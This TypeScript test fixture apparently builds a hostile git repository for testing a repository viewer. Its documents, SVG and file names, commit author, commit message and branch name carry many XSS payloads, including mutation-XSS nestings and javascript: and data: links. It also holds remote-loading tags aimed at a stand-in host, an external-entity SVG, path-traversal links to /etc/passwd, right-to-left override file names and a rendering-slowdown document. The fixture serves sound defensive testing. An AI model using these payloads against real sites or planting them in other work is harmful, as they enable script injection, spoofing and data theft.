/** A repository whose documents, images and names try to run scripts, to load from elsewhere, and to mislead. */
import * as ChildProcess from "node:child_process"
import * as Fs from "node:fs"
import * as Os from "node:os"
import * as Path from "node:path"

/** The address that nothing may load from. */
export const ELSEWHERE = "http://elsewhere.example"

/** A script that leaves a mark on its window. */
const OWN = "top.owned=1;window.owned=1;alert(1)"

const tags = [
  `<script>${OWN}</script>`,
  `<ScRiPt src=${ELSEWHERE}/x.js></sCrIpT>`,
  `<img src=x onerror="${OWN}">`,
  `<img src="${ELSEWHERE}/pixel.png" srcset="${ELSEWHERE}/2x.png 2x">`,
  `<img src="//elsewhere.example/p.png"><img src="\\\\elsewhere.example\\p.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${OWN}'/>">`,
  `<picture><source srcset="${ELSEWHERE}/a.webp"><img src="${ELSEWHERE}/a.png"></picture>`,
  `<svg/onload="${OWN}"><image href="${ELSEWHERE}/a.png"/><use href="${ELSEWHERE}/a.svg#x"/></svg>`,
  `<svg><style><img src=x onerror="${OWN}"></style></svg>`,
  `<math><mi//xlink:href="data:x,<script>${OWN}</script>"></mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${OWN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${OWN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${OWN}>">`,
  `<template><img src=x onerror="${OWN}"></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror="${OWN}"></template></div>`,
  `<iframe srcdoc="<script>${OWN}</script>"></iframe><iframe src="javascript:${OWN}"></iframe>`,
  `<object data="${ELSEWHERE}/a.swf"></object><embed src="${ELSEWHERE}/a.swf">`,
  `<video src="${ELSEWHERE}/a.mp4" poster="${ELSEWHERE}/p.png" autoplay onerror="${OWN}"></video>`,
  `<audio src="${ELSEWHERE}/a.mp3" autoplay></audio>`,
  `<style>@import "${ELSEWHERE}/a.css";*{background:url(${ELSEWHERE}/b.png)}</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/a.css"><link rel="prefetch" href="${ELSEWHERE}/next">`,
  `<p style="background:url(${ELSEWHERE}/c.png);position:fixed;inset:0;z-index:99">covers</p>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}/"><input name="q" autofocus onfocus="${OWN}"><button>go</button></form>`,
  `<input type="image" src="${ELSEWHERE}/i.png">`,
  `<details open ontoggle="${OWN}"><summary>s</summary></details>`,
  `<body background="${ELSEWHERE}/d.png" onload="${OWN}">`,
  `<table background="${ELSEWHERE}/e.png"><td background="${ELSEWHERE}/f.png">cell</table>`,
  `<a href="javascript:${OWN}">click</a><a href="java&#9;script:${OWN}">click</a>`,
  `<a href="data:text/html,<script>${OWN}</script>">click</a>`,
  `<a id="page" name="body">id</a><img name="getElementById"><p id="main" class="header tree-drawer">clobber</p>`,
  `<marquee onstart="${OWN}">m</marquee><xss onfocus="${OWN}" tabindex=1 autofocus>x</xss>`,
  `<!--><script>${OWN}</script>--><![CDATA[<script>${OWN}</script>]]><?xml <script>${OWN}</script> ?>`,
  `<p title="\u202etxt">title</p>`
]

const markdown = [
  `[x](javascript:${OWN})`,
  `[x](<java\tscript:${OWN}>)`,
  `![x](javascript:${OWN})`,
  `![pixel](${ELSEWHERE}/pixel.png)`,
  `[![badge](${ELSEWHERE}/badge.svg)](${ELSEWHERE}/build)`,
  `![ref]\n\n[ref]: ${ELSEWHERE}/ref.png`,
  `<javascript:${OWN}>`,
  `[up](../../../../etc/passwd) ![up](../../../api/connection)`,
  `[q](" onmouseover="${OWN}) ![q](a.png "\\" onerror=\\"${OWN}")`,
  `| <img src=x onerror="${OWN}"> |\n|-|\n| <script>${OWN}</script> |`,
  `# <img src=x onerror="${OWN}"> heading`,
  `[^1]\n\n[^1]: <img src=x onerror="${OWN}">`,
  `> [!NOTE]\n> <script>${OWN}</script>`,
  `- [x] <script>${OWN}</script>`,
  "```html\n<script>owned = 1</script>\n```",
  `\`\`\`"><img/src=x/onerror=${OWN}>\ncode\n\`\`\``,
  "before \u202e reversed \u2066 text"
]

const SVG = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "${ELSEWHERE}/entity">]>
<?xml-stylesheet href="${ELSEWHERE}/a.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" onload="${OWN}">
  <script>${OWN}</script>
  <script href="${ELSEWHERE}/x.js"/>
  <style>@import url(${ELSEWHERE}/b.css); rect { fill: url(${ELSEWHERE}/c.svg#p) }</style>
  <image href="${ELSEWHERE}/a.png" width="10" height="10"/>
  <use xlink:href="${ELSEWHERE}/a.svg#x"/>
  <foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${ELSEWHERE}/fo.png" onerror="${OWN}"/></body></foreignObject>
  <animate attributeName="href" values="javascript:${OWN}"/>
  <rect width="120" height="60" fill="teal"/>
</svg>
`

/** Names of files that contain markup, reorder text, or are very wide or long. */
export const names = [
  `<img src=x onerror=${OWN}>.md`,
  `"><script>${OWN}<\u2215script>.ts`,
  "javascript:alert(1).md",
  "\u202egpj.exe",
  "\u0007bell\u001b[31m.txt",
  "line\nbreak.txt",
  "\u{1F468}\u200d\u{1F469}\u200d\u{1F467}\u200d\u{1F466}.txt",
  "\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd.txt",
  `${"w".repeat(240)}.txt`,
  "%2e%2e%2fetc.txt",
  "a&amp;b?c#d=e.txt",
  "__proto__",
  "constructor"
]

/** All of it in one text. */
export const text = `${markdown.join("\n\n")}\n\n${tags.join("\n\n")}\n`

/** HTML that a hostile forge could send as the rendered text. */
export const html = tags.join("\n")

/** Files by path. */
const files: Readonly<Record<string, string | Uint8Array>> = {
  "README.md": `# Read me\n\n${text}`,
  "inline.md": `# Read me\n\n${tags.map((tag) => `text ${tag}`).join("\n")}\n`,
  // One by one, because some tags hide the rest of a document.
  ...Object.fromEntries(tags.map((tag, index) => [`tags/${index}.md`, `# Read me\n\n${tag}\n`])),
  "deep.md": `# Read me\n\n${"<div>".repeat(3_000)}deep\n\n${"> ".repeat(3_000)}deep\n`,
  "picture.svg": SVG,
  "shown.md": "# Read me\n\n![shown](picture.svg) ![broken](broken.png)\n",
  // HTML and SVG with the name of another image.
  "html.png": `<!doctype html><script>${OWN}</script><img src="${ELSEWHERE}/a.png">`,
  "svg.gif": SVG,
  "broken.png": Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0]),
  "page.html": `<script>${OWN}</script><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  [`names/<b>folder<\u2215b>/inner.txt`]: "text",
  ...Object.fromEntries(names.map((name) => [`names/${name}`, `# ${OWN}\n`]))
}

/** Paths that the test opens one by one. */
export const paths = Object.keys(files)

/** A document that takes minutes to render, and that the test opens alone. */
const slow =
  Array.from({ length: 20_000 }, (_, at) => `[^${at}]`).join(" ") +
  "\n\n" +
  Array.from({ length: 20_000 }, (_, at) => `[^${at}]: note\n`).join("\n")

export interface HostileRepository {
  readonly folder: string
  readonly remove: () => void
}

/** Creates the repository. Authors and messages of the commits are hostile too. */
export const make = (): HostileRepository => {
  const base = Fs.mkdtempSync(Path.join(Os.tmpdir(), "tongs-hostile-"))
  const folder = Path.join(base, "hostile")
  const source = Path.join(base, "source")
  Fs.mkdirSync(source)
  const git = (args: ReadonlyArray<string>, input?: string | Uint8Array): string => {
    const { status, stderr, stdout } = ChildProcess.spawnSync("git", ["-C", source, ...args], {
      encoding: "utf8",
      input: input ?? "",
      env: {
        ...process.env,
        GIT_CONFIG_GLOBAL: "/dev/null",
        GIT_AUTHOR_NAME: `<img src=x onerror=${OWN}> \u202eAda`,
        GIT_AUTHOR_EMAIL: "a@example.org",
        GIT_COMMITTER_NAME: "Test",
        GIT_COMMITTER_EMAIL: "a@example.org"
      }
    })
    if (status !== 0) throw new Error(`git ${args.join(" ")}: ${stderr}`)
    return stdout.trim()
  }
  git(["init", "--quiet", "--initial-branch=main"])
  // Through the index instead of files, because a file system can refuse such names.
  const entries = Object.entries({ ...files, "slow.md": slow }).map(([path, content]) => {
    const oid = git(["hash-object", "-w", "--stdin"], content)
    return `100644 ${oid}\t${path}\0`
  })
  git(["update-index", "-z", "--index-info"], entries.join(""))
  git(["commit", "--quiet", "--message", `<script>${OWN}</script> \u202emessage`])
  git(["branch", `<img/src=x/onerror=${OWN.replaceAll(";", ",")}>`])
  // Without the work tree, whose files are missing.
  git(["clone", "--quiet", "--bare", source, folder])
  return { folder, remove: () => Fs.rmSync(base, { recursive: true, force: true }) }
}
